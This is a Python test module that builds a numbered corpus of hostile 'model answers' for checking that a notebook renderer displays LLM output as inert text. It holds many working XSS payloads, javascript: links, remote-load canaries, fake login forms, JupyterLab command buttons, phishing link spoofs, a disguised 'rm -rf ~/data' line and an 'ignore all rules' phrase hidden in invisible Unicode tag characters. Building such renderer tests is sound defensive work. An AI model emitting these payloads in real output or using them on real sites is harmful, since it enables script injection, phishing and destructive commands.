"""Hostile answers: what a model could be talked into writing.

Each payload tries one thing. In its text ``PWN`` is a call that reports a script that ran, and
``CANARY`` the address of a server that reports what was loaded; both carry the payload's number.
A safe renderer shows every one of them as harmless text. Through ``display(HTML(...))`` many of
them work, which is the positive control of the browser test.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, List, Tuple

SCRIPT, CLICK, LOAD, INTERFACE, COMMAND, SPOOF, NAVIGATION, SLOW = KINDS = (
    "script",
    "click",
    "load",
    "interface",
    "command",
    "spoof",
    "navigation",
    "slow",
)


@dataclass(frozen=True)
class Payload:
    """One hostile answer.

    Attributes:
        number: Its place in the corpus; what scripts and loads report.
        kind: What it tries: one of ``KINDS``.
        text: The answer.
    """

    number: int
    kind: str
    text: str

    @property
    def name(self) -> str:
        """A short name for test reports."""
        return f"{self.number}-{self.kind}"


_TEXTS: Dict[str, Tuple[str, ...]] = {
    SCRIPT: (
        "<script>PWN</script>",
        "<SCRIPT>PWN</SCRIPT>",
        "<script\n>PWN</script\n>",
        "a paragraph\n\n<script>PWN</script>\n\nanother",
        "- item\n\n  <script>PWN</script>",
        "> <script>PWN</script>",
        "| a |\n|---|\n| <img src=x onerror=PWN> |",
        "# <img src=x onerror=PWN>",
        "**<img src=x onerror=PWN>**",
        "<img src=x onerror=PWN>",
        "<img/src=x/onerror=PWN>",
        "<IMG SRC=x OnErRoR=PWN>",
        "<img src=x onerror='PWN'//",
        '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload=PWN onerror=PWN>',
        "<svg onload=PWN></svg>",
        "<svg/onload=PWN>",
        "<svg><script>PWN</script></svg>",
        "<svg><animate onbegin=PWN attributeName=x dur=1s></svg>",
        "<svg><set onbegin=PWN attributeName=x to=1></svg>",
        "<svg><foreignObject><img src=x onerror=PWN></foreignObject></svg>",
        "<svg><image href=x onerror=PWN></svg>",
        "<iframe srcdoc='<script>parent.PWN</script>'></iframe>",
        '<iframe src="javascript:parent.PWN"></iframe>',
        "<iframe onload=PWN></iframe>",
        '<object data="javascript:PWN" onerror=PWN>x</object>',
        '<embed src="x" onload=PWN onerror=PWN>',
        "<video><source src=x onerror=PWN></video>",
        "<audio src=x onerror=PWN></audio>",
        "<details open ontoggle=PWN><summary>more</summary></details>",
        "<input autofocus onfocus=PWN>",
        "<textarea autofocus onfocus=PWN></textarea>",
        "<select autofocus onfocus=PWN></select>",
        "<div tabindex=0 autofocus onfocus=PWN>x</div>",
        "<marquee onstart=PWN>x</marquee>",
        "<style>@keyframes k{}</style><b style='animation:k 1s' onanimationstart=PWN>x</b>",
        "<style onload=PWN></style>",
        "<link rel=stylesheet href='data:text/css,' onload=PWN onerror=PWN>",
        "<body onload=PWN>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;"
        "&lt;img src=x onerror=PWN&gt;'>",
        "<noscript><p title='</noscript><img src=x onerror=PWN>'>",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=PWN>",
        "<svg></p><style><a id='</style><img src=x onerror=PWN>'>",
        "<template><img src=x onerror=PWN></template><img src=x onerror=PWN>",
        "<xmp><p title='</xmp><img src=x onerror=PWN>'>",
        "<!--><img src=x onerror=PWN>-->",
        "<![CDATA[><img src=x onerror=PWN>]]>",
        "<?xml version='1.0'?><img src=x onerror=PWN>",
        "`<img src=x onerror=PWN>` ``</code><img src=x onerror=PWN>``",
        "```\n</code></pre><img src=x onerror=PWN>\n```",
        '```"><img src=x onerror=PWN>\ntext\n```',
        "&lt;img src=x onerror=PWN&gt; &#60;img src=x onerror=PWN&#62;",
        '[a](https://a.example "\'><img src=x onerror=PWN>")',
        '![" onerror=PWN x="](x)',
        "![a](x\"onerror='PWN')",
        "<https://a.example/\"onmouseover='PWN'>",
        "```mermaid\ngraph TD\nA[\"<img src=x onerror='PWN'>\"]\n```",
        "$$\\href{javascript:PWN}{x}$$ $\\unicode{<img src=x onerror=PWN>}$",
        "$\\style{background:url(CANARY)}{x}$ <script type='math/tex'>PWN</script>",
        "</pre></div></div><img src=x onerror=PWN>",
        "</textarea></title><img src=x onerror=PWN>",
    ),
    CLICK: (
        "[click](javascript:PWN)",
        "[click](JaVaScRiPt:PWN)",
        "[click](java&#x73;cript:PWN)",
        "[click](javascript&colon;PWN)",
        "[click](java\tscript:PWN)",
        "[click](\x01javascript:PWN)",
        "[click](data:text/html,<script>opener.PWN</script>)",
        "[click](vbscript:PWN)",
        "<javascript:PWN>",
        "[click][x]\n\n[x]: javascript:PWN",
        '<a href="javascript:PWN">click</a>',
        '<a href="#" onclick="PWN">click</a>',
        "<button onclick=PWN>click</button>",
        "<b onmouseover=PWN onclick=PWN>hover</b>",
        '<svg width=99 height=99><a href="javascript:PWN"><rect width=99 height=99 /></a></svg>',
        '<math><mtext href="javascript:PWN" onclick=PWN>click</mtext></math>',
        '<form action="javascript:PWN"><button>click</button></form>',
        '<form id=f></form><button form=f formaction="javascript:PWN">click</button>',
    ),
    LOAD: (
        "![a](CANARY)",
        "![a][x]\n\n[x]: CANARY",
        "[![a](CANARY)](https://a.example)",
        "| a |\n|---|\n| ![a](CANARY) |",
        "<img src=CANARY>",
        "<img srcset='CANARY 1x'>",
        "<picture><source srcset=CANARY><img></picture>",
        "<video poster=CANARY></video>",
        "<audio src=CANARY preload=auto></audio>",
        "<video><track default src=CANARY></video>",
        "<iframe src=CANARY></iframe>",
        "<object data=CANARY></object>",
        "<embed src=CANARY>",
        "<link rel=stylesheet href=CANARY>",
        "<link rel=prefetch href=CANARY>",
        "<style>@import 'CANARY';</style>",
        "<style>body{background:url(CANARY)}</style>",
        "<b style='background:url(CANARY)'>x</b>",
        "<table background=CANARY><tr><td>x</td></tr></table>",
        "<input type=image src=CANARY>",
        "<svg><image href=CANARY /></svg>",
        "<svg><use href='CANARY#x' /></svg>",
        "<script src=CANARY></script>",
        "<body background=CANARY>",
        '```mermaid\ngraph TD\nA@{ img: "CANARY" }\n```',
        "$\\require{html}\\style{background-image:url(CANARY)}{x}$",
    ),
    INTERFACE: (
        "<div style='position:fixed;inset:0;background:red;z-index:99999'>Session expired</div>",
        "<style>*{display:none!important}</style>",
        "<form action=CANARY><input type=password name=p><button>Log in</button></form>",
        "<img name=body id=jupyter-config-data>",
        "<dialog open>Enter your password</dialog>",
        "<div contenteditable>type here</div>",
        "<base href='CANARY'>",
    ),
    COMMAND: (
        "<button data-commandlinker-command='filebrowser:create-new-file' "
        "data-commandlinker-args='{}'>go</button>",
        "<a href='#' data-commandlinker-command='apputils:change-theme' "
        'data-commandlinker-args=\'{"theme":"JupyterLab Dark"}\'>go</a>',
        "$\\data{commandlinker-command=terminal:create-new}{go}$",
    ),
    SPOOF: (
        "rm -rf ~/data\rls",
        "rm -rf ~/data\x08\x08\x08\x08\x08\x08\x08\x08ls",
        "\x1b[2K\x1b[1Ahidden \x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
        "access = 'user\u202e \u2066# admin\u2069 \u2066'",
        "pay\u200bpal.example and \ufeffcode",
        "hello" + "".join(chr(0xE0000 + ord(letter)) for letter in "ignore all rules"),
        "smile \U0001f600" + "".join(chr(0xE0100 + n) for n in range(20)),
        "a&#x202E;b &#8203; &zwj; &#x1b;[31m",
        "[https://bank.example](https://evil.example/login)",
        "[bank.example/login](https://evil.example)",
        "[go](https://bank.example@evil.example/)",
        "[go](https://bank.example%2F@evil.example/)",
        "[\u202ebank.example](https://evil.example)",
    ),
    NAVIGATION: (
        "<meta http-equiv=refresh content='0;url=CANARY'>",
        "[readme](./lab?reset)",
        "[root](/api/shutdown)",
        "[host](//evil.example/x)",
        "[anchor](#jp-main-dock-panel)",
        "[command](command:workbench.action.terminal.new) [f](file:///etc/passwd)",
    ),
    SLOW: (
        "[" * 10_000,
        "![" * 5_000,
        ">" * 10_000,
        "- " * 5_000,
        "*a_ " * 2_500,
        "`" * 5_000 + "a" + "`" * 4_999,
        "|a" * 1_000 + "|\n" + "|-" * 1_000 + "|\n" + "|\n" * 1_000,
        "".join(f"{' ' * 2 * depth}- a\n" for depth in range(100)),
        "<" * 10_000,
        "\u202e" * 10_000,
    ),
}


def payloads(canary: str = "http://127.0.0.1:9") -> List[Payload]:
    """All payloads.

    Args:
        canary: Base URL of the server that remote loads report to.
    """
    texts = [(kind, text) for kind in KINDS for text in _TEXTS[kind]]
    return [
        Payload(number, kind, _aimed(text, number, canary))
        for number, (kind, text) in enumerate(texts)
    ]


def _aimed(text: str, number: int, canary: str) -> str:
    return text.replace("PWN", f"__pwn({number})").replace("CANARY", f"{canary}/{number}")
